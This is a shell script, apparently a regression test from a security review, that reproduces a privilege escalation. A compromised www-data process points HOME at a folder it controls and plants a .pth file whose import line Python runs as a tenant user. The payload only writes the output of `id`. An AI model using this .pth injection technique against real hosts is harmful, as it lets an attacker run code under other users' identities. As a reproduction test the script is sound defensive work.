#!/bin/sh
# F1: a compromised server child (www-data) runs code of its choice as a tenant, past
# owner.py: the start request's env sets HOME to a folder www-data wrote, Python's site
# module reads HOME for the user's site-packages at start (no -s) and runs the import
# lines of its .pth files, as the tenant, before pypages_worker has checked anything.
# Run as root from the worktree after `npm run -s build`.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
name=pprv$$
home=$(mktemp -d /tmp/rv-alice-XXXXXX); chmod 711 "$home"
useradd --home-dir "$home" --no-create-home --shell /usr/sbin/nologin --user-group "$name"
chown "$name:" "$home"
evil=$(mktemp -d /tmp/rv-wwwhome-XXXXXX); chown www-data: "$evil"; chmod 755 "$evil"
req=$(mktemp /tmp/rv-req-XXXXXX)
out=$evil/pwned
trap 'pkill -KILL -u "$name" 2>/dev/null || true; userdel "$name" 2>/dev/null || true; rm -rf "$req" "$evil" "$home"' EXIT
# What the compromised child plants, as www-data: a user site with a .pth file.
ver=$(/usr/bin/python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])')
setpriv --reuid www-data --regid www-data --clear-groups sh -c "
  mkdir -p '$evil/.local/lib/python$ver/site-packages' '$out'; chmod -R 755 '$evil/.local'; chmod 777 '$out'
  echo 'import os; os.system(\"id > $out/id\")' > '$evil/.local/lib/python$ver/site-packages/zz-evil.pth'"
uid=$(id -u "$name"); gid=$(id -g "$name")
cat >"$req" <<J
[{"pypages":"start","id":1,"python":"/usr/bin/python3","args":["-u","-m","pypages_worker","--root","/nonexistent"],"cwd":"/","env":{"HOME":"$evil"},"user":{"uid":$uid,"gid":$gid}}]
J
"$here/../review-pd/run-hostile.sh" "$req" >/dev/null 2>&1 || true
if [ -s "$out/id" ]; then echo "VULNERABLE: www-data's .pth ran as the tenant: $(cat "$out/id")"; exit 1; fi
echo "not reproduced (fixed): no code of www-data's ran as $name"
